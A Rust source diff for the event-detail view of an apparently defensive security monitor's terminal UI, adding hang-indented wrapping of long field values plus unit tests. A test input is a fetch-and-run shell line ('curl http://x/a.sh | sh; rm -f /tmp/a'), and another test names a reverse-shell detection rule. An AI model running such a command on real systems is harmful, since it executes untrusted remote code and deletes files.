@@ -1,5 +1,8 @@
 //! The detail view (`Enter`): every field of the selected event, its process ancestry, the
 //! rules it matched with their scores, and the recommendation.
+//!
+//! Long values are wrapped here, not by ratatui's `Wrap` (which cannot hang-indent): their
+//! continuation lines start under the value column, so the field names stay readable.
 use ratatui::{
     Frame,
     layout::Rect,
@@ -17,11 +20,16 @@ pub fn render(frame: &mut Frame, area: Rect, app: &App, theme: Theme) {
     let Some(detail) = &app.detail else { return };
     let Some(entry) = &detail.entry else { return };
     let styles = Styles::new(theme);
-    let lines = lines(app, entry, &styles);
+    // Inside the borders.
+    let width = usize::from(area.width.saturating_sub(2));
+    let lines: Vec<Line> = lines(app, entry, &styles)
+        .into_iter()
+        .flat_map(|line| hang(line, width))
+        .collect();
     detail.lines.set(lines.len());
     let scroll = detail.scroll.min(lines.len().saturating_sub(1));
     let block = Block::new().borders(Borders::ALL).title(Span::styled(
-        " Event detail — ↑↓ scroll · b block · Esc closes ",
+        " Event detail — ↑↓ scroll · b block · e its events · Esc closes ",
         styles.title(true),
     ));
     frame.render_widget(Clear, area);
@@ -32,6 +40,112 @@ pub fn render(frame: &mut Frame, area: Rect, app: &App, theme: Theme) {
             .scroll((u16::try_from(scroll).unwrap_or(u16::MAX), 0)),
         area,
     );
+}
+
+/// Columns before a list item's text (`   • `).
+const ITEM_COLUMN: usize = 5;
+
+/// `line` cut into lines at most `width` columns wide, each continuation indented to where
+/// the line's text starts (the value column of a field, the text of a `•` item); words stay
+/// whole where they fit. A line that fits is returned as it is.
+pub(super) fn hang(line: Line<'_>, width: usize) -> Vec<Line<'_>> {
+    if line.width() <= width || width == 0 {
+        return vec![line];
+    }
+    let indent = if line.spans.len() > 1 {
+        // A field: its name span (a space and the name padded to 15), then the value.
+        line.spans[0].width()
+    } else if line
+        .spans
+        .first()
+        .is_some_and(|s| s.content.starts_with("   • "))
+    {
+        ITEM_COLUMN
+    } else {
+        0
+    };
+    // No room for a value column: cut at the border.
+    let indent = if indent + 8 > width { 0 } else { indent };
+    let mut out: Vec<Line> = vec![Line::default()];
+    let mut used = 0;
+    for span in line.spans {
+        for piece in pieces(&span.content) {
+            let mut piece = piece.to_string();
+            loop {
+                let columns = text_width(&piece);
+                if used + columns <= width {
+                    used += columns;
+                    push(&mut out, &piece, span.style);
+                    break;
+                }
+                if used + text_width(piece.trim_end()) <= width {
+                    // The word fits, the space after it does not: the line ends here.
+                    push(&mut out, piece.trim_end(), span.style);
+                    out.push(Line::from(" ".repeat(indent)));
+                    used = indent;
+                    break;
+                }
+                // Not on this line: a word that fits on a fresh line goes there whole, a
+                // longer one is cut to what is left of this line.
+                let room = width - used;
+                let fresh = width - indent;
+                let (head, rest) = if (columns <= fresh && used > indent) || room == 0 {
+                    (String::new(), piece)
+                } else {
+                    split_at_width(&piece, room.max(1))
+                };
+                push(&mut out, &head, span.style);
+                out.push(Line::from(" ".repeat(indent)));
+                used = indent;
+                piece = rest.trim_start_matches(' ').to_string();
+                if piece.is_empty() {
+                    break;
+                }
+            }
+        }
+    }
+    // A line that ended exactly at the width leaves an indent with nothing after it.
+    out.retain(|l| l.spans.iter().any(|s| !s.content.trim().is_empty()));
+    for line in &mut out {
+        if let Some(last) = line.spans.last_mut() {
+            last.content = last.content.trim_end().to_string().into();
+        }
+    }
+    out
+}
+
+/// `text` in words, each with the spaces after it.
+fn pieces(text: &str) -> impl Iterator<Item = &str> {
+    text.split_inclusive(' ')
+}
+
+fn text_width(text: &str) -> usize {
+    use unicode_width::UnicodeWidthChar;
+    text.chars().map(|c| c.width().unwrap_or(0)).sum()
+}
+
+/// The longest start of `text` at most `columns` wide (at least one character), and the rest.
+fn split_at_width(text: &str, columns: usize) -> (String, String) {
+    use unicode_width::UnicodeWidthChar;
+    let mut used = 0;
+    let mut end = 0;
+    for (i, c) in text.char_indices() {
+        let w = c.width().unwrap_or(0);
+        if used + w > columns && i > 0 {
+            break;
+        }
+        used += w;
+        end = i + c.len_utf8();
+    }
+    (text[..end].to_string(), text[end..].to_string())
+}
+
+fn push(lines: &mut [Line<'_>], text: &str, style: ratatui::style::Style) {
+    if let Some(line) = lines.last_mut()
+        && !text.is_empty()
+    {
+        line.spans.push(Span::styled(text.to_string(), style));
+    }
 }
 
 fn field<'a>(styles: &Styles, name: &str, value: impl Into<String>) -> Line<'a> {
@@ -262,4 +376,78 @@ fn specific_fields(e: &Event) -> Vec<(&'static str, String)> {
         .into_iter()
         .filter_map(|(name, value)| value.map(|v| (name, v)))
         .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use ratatui::text::{Line, Span};
+
+    use super::hang;
+
+    fn texts(lines: &[Line]) -> Vec<String> {
+        lines.iter().map(|l| l.to_string()).collect()
+    }
+
+    fn field(value: &str) -> Line<'_> {
+        Line::from(vec![
+            Span::raw(format!(" {:<15}", "command line")),
+            Span::raw(value),
+        ])
+    }
+
+    #[test]
+    fn wrapped_values_hang_under_their_column() {
+        let lines = hang(field("sh -c curl http://x/a.sh | sh; rm -f /tmp/a"), 36);
+        assert_eq!(
+            texts(&lines),
+            [
+                " command line   sh -c curl",
+                "                http://x/a.sh | sh;",
+                "                rm -f /tmp/a",
+            ]
+        );
+        assert!(lines.iter().all(|l| l.width() <= 36));
+    }
+
+    #[test]
+    fn a_word_longer_than_the_column_is_cut() {
+        let lines = hang(field("/a/very/long/path/without/any/spaces/in/it"), 30);
+        assert_eq!(
+            texts(&lines),
+            [
+                " command line   /a/very/long/p",
+                "                ath/without/an",
+                "                y/spaces/in/it",
+            ]
+        );
+    }
+
+    #[test]
+    fn wide_characters_count_twice() {
+        let lines = hang(field("漢字漢字漢字漢字漢字"), 26);
+        assert_eq!(
+            texts(&lines),
+            [" command line   漢字漢字漢", "                字漢字漢字"]
+        );
+        assert!(lines.iter().all(|l| l.width() <= 26));
+    }
+
+    #[test]
+    fn list_items_hang_under_their_text_and_short_lines_stay() {
+        let item = Line::raw("   • reverse_shell_port  score 0.90, simulate_block");
+        assert_eq!(
+            texts(&hang(item, 34)),
+            [
+                "   • reverse_shell_port  score",
+                "     0.90, simulate_block"
+            ]
+        );
+        let short = field("dropper");
+        assert_eq!(texts(&hang(short, 80)), [" command line   dropper"]);
+        // Too narrow for a value column: cut at the border, nothing lost.
+        let narrow = hang(field("abcdefgh"), 20);
+        assert!(narrow.iter().all(|l| l.width() <= 20));
+        let letters: String = texts(&narrow).concat().split_whitespace().collect();
+        assert_eq!(letters, "commandlineabcdefgh");
+    }
 }
